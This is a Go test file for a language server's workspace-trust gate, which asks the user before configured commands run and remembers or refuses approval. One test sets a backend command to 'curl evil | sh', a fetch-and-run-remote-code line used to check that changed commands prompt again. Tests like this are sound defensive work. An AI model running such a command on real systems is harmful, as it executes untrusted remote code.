package trust

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/farm-stack/farm-lsp/analysis/config"
)

// userAsker is the user at the other end: each question is delivered on
// asked and answered with what the test sends on answers.
type userAsker struct {
	asked   chan string
	answers chan answer

	mu       sync.Mutex
	inFlight int
	maxIn    int
}

type answer struct {
	action string
	err    error
}

func newUser() *userAsker {
	return &userAsker{asked: make(chan string, 16), answers: make(chan answer)}
}

func (u *userAsker) Ask(ctx context.Context, msg string, actions []string) (string, error) {
	u.mu.Lock()
	u.inFlight++
	if u.inFlight > u.maxIn {
		u.maxIn = u.inFlight
	}
	u.mu.Unlock()
	defer func() { u.mu.Lock(); u.inFlight--; u.mu.Unlock() }()
	if len(actions) != 2 || actions[0] != ActionTrust {
		return "", errors.New("unexpected actions")
	}
	u.asked <- msg
	select {
	case a := <-u.answers:
		return a.action, a.err
	case <-ctx.Done():
		return "", ctx.Err()
	}
}

func (u *userAsker) question(t *testing.T) string {
	t.Helper()
	select {
	case q := <-u.asked:
		return q
	case <-time.After(10 * time.Second):
		t.Fatal("no question asked")
		return ""
	}
}

func (u *userAsker) noQuestion(t *testing.T) {
	t.Helper()
	select {
	case q := <-u.asked:
		t.Fatalf("asked again:\n%s", q)
	default:
	}
}

func (u *userAsker) answer(a string) { u.answers <- answer{action: a} }

// requireAsync runs Require on its own goroutine.
func requireAsync(g *Gate) <-chan error {
	ch := make(chan error, 1)
	go func() { ch <- g.Require(context.Background()) }()
	return ch
}

func wait(t *testing.T, ch <-chan error) error {
	t.Helper()
	select {
	case err := <-ch:
		return err
	case <-time.After(10 * time.Second):
		t.Fatal("Require did not return")
		return nil
	}
}

// req is Require bounded, so that a question nobody answers fails the
// test instead of hanging it.
func req(g *Gate) error {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	return g.Require(ctx)
}

func notTrusted(err error) bool { return errors.Is(err, ErrNotTrusted) }

func TestGateAsksOnceAndRemembers(t *testing.T) {
	store := OpenStore(t.TempDir())
	u := newUser()
	s := FromConfig("/w", exampleConfig())
	g := NewGate(s, GateOptions{Store: store, Asker: u})
	defer g.Close()
	if g.Trusted() {
		t.Fatal("trusted before anything was decided")
	}
	var waits []<-chan error
	for i := 0; i < 8; i++ {
		waits = append(waits, requireAsync(g))
	}
	q := u.question(t)
	if !strings.Contains(q, "sh -c 'touch marker; sleep 30'") || !strings.Contains(q, "/w/apps/api") {
		t.Errorf("question does not show what runs:\n%s", q)
	}
	u.noQuestion(t)
	u.answer(ActionTrust)
	for _, w := range waits {
		if err := wait(t, w); err != nil {
			t.Fatalf("after trusting: %v", err)
		}
	}
	if st := g.State(); !st.Trusted || st.Source != SourceAnswered {
		t.Errorf("state = %+v", st)
	}
	if u.maxIn != 1 {
		t.Errorf("%d questions in flight at once", u.maxIn)
	}
	// A new session with the same settings: remembered, not asked.
	g2 := NewGate(s, GateOptions{Store: store, Asker: u})
	defer g2.Close()
	if err := req(g2); err != nil {
		t.Fatal(err)
	}
	u.noQuestion(t)
	if g2.State().Source != SourceRemembered {
		t.Errorf("source = %q", g2.State().Source)
	}
	// A changed command asks again.
	c := exampleConfig()
	c.Development.Backend.Command = []string{"sh", "-c", "curl evil | sh"}
	g2.Update(FromConfig("/w", c))
	if g2.Trusted() {
		t.Fatal("a changed command is trusted")
	}
	w := requireAsync(g2)
	if q := u.question(t); !strings.Contains(q, "curl evil | sh") {
		t.Errorf("second question:\n%s", q)
	}
	u.answer(ActionRefuse)
	if err := wait(t, w); !notTrusted(err) {
		t.Fatalf("refused: %v", err)
	}
	// Back to the allowed command: trusted again without a question.
	g2.Update(s)
	if err := req(g2); err != nil {
		t.Fatal(err)
	}
}

func TestGateRefusalLastsTheSession(t *testing.T) {
	store := OpenStore(t.TempDir())
	u := newUser()
	s := FromConfig("/w", exampleConfig())
	g := NewGate(s, GateOptions{Store: store, Asker: u})
	defer g.Close()
	w := requireAsync(g)
	u.question(t)
	u.answer(ActionRefuse)
	err := wait(t, w)
	var nt *NotTrustedError
	if !errors.As(err, &nt) || nt.Reason != "refused" || err.Error() != "workspace not trusted" {
		t.Fatalf("refused: %v", err)
	}
	for i := 0; i < 3; i++ {
		if err := req(g); !notTrusted(err) {
			t.Fatalf("after a refusal: %v", err)
		}
	}
	u.noQuestion(t)
	if st := g.State(); st.Trusted || !st.Refused || st.Reason != "refused" {
		t.Errorf("state = %+v", st)
	}
	if ok, _ := store.Allowed(s.Root, s.Hash()); ok {
		t.Fatal("a refusal was stored as an allow")
	}
	// A refusal is not remembered across sessions.
	g2 := NewGate(s, GateOptions{Store: store, Asker: u})
	defer g2.Close()
	w = requireAsync(g2)
	u.question(t)
	u.answer("") // dismissed: a refusal for the session
	if err := wait(t, w); !notTrusted(err) {
		t.Fatalf("dismissed: %v", err)
	}
	// farm.trust overrides the refusal, and is remembered.
	ch := g.Changed()
	if err := g.Grant(); err != nil {
		t.Fatal(err)
	}
	select {
	case <-ch:
	default:
		t.Error("Grant did not signal Changed")
	}
	if err := req(g); err != nil {
		t.Fatalf("after Grant: %v", err)
	}
	if ok, _ := store.Allowed(s.Root, s.Hash()); !ok {
		t.Fatal("Grant not stored")
	}
	// The other session refused, but the allow now stored (another
	// editor's farm.trust, or `farm-lsp trust`) is the user's later word.
	if err := req(g2); err != nil {
		t.Fatalf("refused session after a stored allow: %v", err)
	}
	u.noQuestion(t)
}

func TestGateClientDeclaration(t *testing.T) {
	u := newUser()
	s := FromConfig("/w", exampleConfig())
	g := NewGate(s, GateOptions{Store: OpenStore(t.TempDir()), Asker: u})
	defer g.Close()
	g.Declare(true)
	if err := req(g); err != nil {
		t.Fatal(err)
	}
	c := exampleConfig()
	c.Development.Backend.Command = []string{"other"}
	g.Update(FromConfig("/w", c)) // the client trusts the folder, whatever it runs
	if err := req(g); err != nil {
		t.Fatal(err)
	}
	u.noQuestion(t)

	g2 := NewGate(s, GateOptions{Store: OpenStore(t.TempDir()), Asker: u})
	defer g2.Close()
	g2.Declare(false) // VS Code's Restricted Mode: never ask behind its back
	if err := req(g2); !notTrusted(err) {
		t.Fatalf("declared untrusted: %v", err)
	}
	u.noQuestion(t)
	if err := g2.Grant(); err != nil {
		t.Fatal(err)
	}
	if err := req(g2); err != nil {
		t.Fatal(err)
	}
	// After the grant, a changed command is decided per hash (asked).
	g2.Update(FromConfig("/w", c))
	w := requireAsync(g2)
	u.question(t)
	u.answer(ActionTrust)
	if err := wait(t, w); err != nil {
		t.Fatal(err)
	}
}

func TestGateWithoutAskerOrStore(t *testing.T) {
	g := NewGate(FromConfig("/w", config.Default()), GateOptions{})
	defer g.Close()
	err := req(g)
	var nt *NotTrustedError
	if !errors.As(err, &nt) || nt.Reason != "no-asker" {
		t.Fatalf("no asker: %v", err)
	}
	if err := g.Grant(); err != nil { // session only
		t.Fatal(err)
	}
	if !g.Trusted() {
		t.Fatal("Grant without a store")
	}
}

// While one question waits for the user, settings that change ask their
// own question only after it: never two at once.
func TestGateOneQuestionAtATime(t *testing.T) {
	u := newUser()
	g := NewGate(FromConfig("/w", exampleConfig()), GateOptions{Asker: u})
	defer g.Close()
	first := requireAsync(g)
	u.question(t)
	c := exampleConfig()
	c.Development.Backend.Command = []string{"second"}
	g.Update(FromConfig("/w", c))
	second := requireAsync(g)
	u.noQuestion(t)
	u.answer(ActionTrust) // about the first settings: they are no longer current
	q := u.question(t)
	if !strings.Contains(q, "backend command: second") {
		t.Fatalf("second question:\n%s", q)
	}
	u.answer(ActionRefuse)
	for _, w := range []<-chan error{first, second} {
		if err := wait(t, w); !notTrusted(err) {
			t.Fatalf("current settings refused, got %v", err)
		}
	}
	if u.maxIn != 1 {
		t.Errorf("%d questions in flight at once", u.maxIn)
	}
}

func TestGateAskFailsAndCancels(t *testing.T) {
	u := newUser()
	g := NewGate(FromConfig("/w", exampleConfig()), GateOptions{Asker: u})
	w := requireAsync(g)
	u.question(t)
	u.answers <- answer{err: errors.New("method not found")}
	err := wait(t, w)
	var nt *NotTrustedError
	if !errors.As(err, &nt) || !strings.Contains(nt.Reason, "method not found") {
		t.Fatalf("ask failed: %v", err)
	}
	req(g)
	u.noQuestion(t)
	g.Close()

	// A caller that gives up does not cancel the question; Grant answers
	// every waiter while it is still open; Close withdraws it.
	g = NewGate(FromConfig("/w", exampleConfig()), GateOptions{Asker: u})
	ctx, cancel := context.WithCancel(context.Background())
	gaveUp := make(chan error, 1)
	go func() { gaveUp <- g.Require(ctx) }()
	u.question(t)
	cancel()
	if err := wait(t, gaveUp); !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled: %v", err)
	}
	w = requireAsync(g)
	u.noQuestion(t)
	if err := g.Grant(); err != nil {
		t.Fatal(err)
	}
	if err := wait(t, w); err != nil {
		t.Fatalf("granted while asking: %v", err)
	}
	g.Close() // the open question is withdrawn
	if err := req(g); !notTrusted(err) {
		t.Fatalf("after Close: %v", err)
	}
}

// The gate is asked before every task with a side effect: its decided path
// must cost nothing next to the task.
func BenchmarkRequireDecided(b *testing.B) {
	for _, tc := range []struct {
		name string
		prep func(g *Gate)
	}{
		{"client", func(g *Gate) { g.Declare(true) }},
		{"remembered", func(g *Gate) {}},
	} {
		b.Run(tc.name, func(b *testing.B) {
			store := OpenStore(b.TempDir())
			s := FromConfig("/w", exampleConfig())
			if err := store.Allow(s); err != nil {
				b.Fatal(err)
			}
			g := NewGate(s, GateOptions{Store: store})
			defer g.Close()
			tc.prep(g)
			ctx := context.Background()
			for b.Loop() {
				if err := g.Require(ctx); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
